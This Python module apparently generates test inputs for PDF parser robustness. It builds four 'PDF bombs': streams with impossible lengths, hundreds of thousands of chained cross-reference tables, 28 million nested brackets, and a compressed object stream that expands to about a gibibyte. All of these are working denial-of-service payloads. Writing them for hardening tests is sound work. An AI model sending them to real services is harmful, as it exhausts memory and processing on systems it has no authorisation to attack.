"""PDFs that keep whoever reads them at work, or swell: made from their parts, within what may be sent."""

from __future__ import annotations

import zlib

HEAD = b"%PDF-1.7\n"
GIBIBYTE = 2**30


def streams_without_end() -> bytes:
    """No table of where its objects are, and 700,000 streams that say that they go on beyond the end of the file."""
    return HEAD + b"".join(
        b"%d 0 obj\n<</Length 99999999>>\nstream\n" % number for number in range(1, 700_000)
    )


def earlier_tables() -> bytes:
    """300,000 tables of where its objects are, each of which names an earlier one."""
    parts, at = [HEAD], len(HEAD)
    earlier = b""
    for _ in range(300_000):
        parts.append(b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 5/Root 1 0 R%s>>\n" % earlier)
        earlier = b"/Prev %d" % at
        at += len(parts[-1])
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF" % (at - len(parts[-1]))


def open_brackets() -> bytes:
    """Lists within lists, 28 million deep."""
    return HEAD + b"1 0 obj\n" + b"[" * 28_000_000


def packed_objects() -> bytes:
    """One megabyte in which objects are packed that unpack to a thousand."""
    squeezer = zlib.compressobj(9)
    million = bytes(GIBIBYTE // 1_024)
    packed = b"".join(squeezer.compress(million) for _ in range(1_024)) + squeezer.flush()
    stream = b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    body = HEAD + stream + packed + b"\nendstream\nendobj\n"
    within = b"\2" + (3).to_bytes(3, "big")
    rows = bytes(5) + within + b"\0" + within + b"\1" + b"\1" + len(HEAD).to_bytes(3, "big") + b"\0"
    table = b"4 0 obj\n<</Type/XRef/Size 4/W[1 3 1]/Root 1 0 R/Length %d>>\nstream\n" % len(rows)
    return body + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


PDF_BOMBS = {
    "streams without end": streams_without_end,
    "earlier tables": earlier_tables,
    "open brackets": open_brackets,
    "packed objects": packed_objects,
}
